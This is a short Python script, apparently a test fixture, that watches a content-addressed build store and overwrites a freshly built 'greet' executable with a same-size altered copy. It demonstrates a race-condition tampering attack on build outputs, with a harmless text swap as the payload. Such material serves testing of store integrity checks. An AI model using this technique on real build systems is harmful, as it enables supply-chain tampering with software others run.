"""Wait for the product of `build` to appear in the store, and put something else in its place: attack.py STORE"""

import sys
import time
from pathlib import Path

objects = Path(sys.argv[1]) / "content" / "sha256"
deadline = time.monotonic() + 60
while time.monotonic() < deadline:
    for path in objects.glob("??/*"):
        content = path.read_bytes()
        if b"greet 1.0 says hello" in content and content.startswith(b"#!"):
            path.chmod(0o600)
            path.write_bytes(content.replace(b"hello", b"EVIL!"))  # of the same size
            print("swapped", path.name)
            sys.exit()
    time.sleep(0.02)
sys.exit("the product did not come")
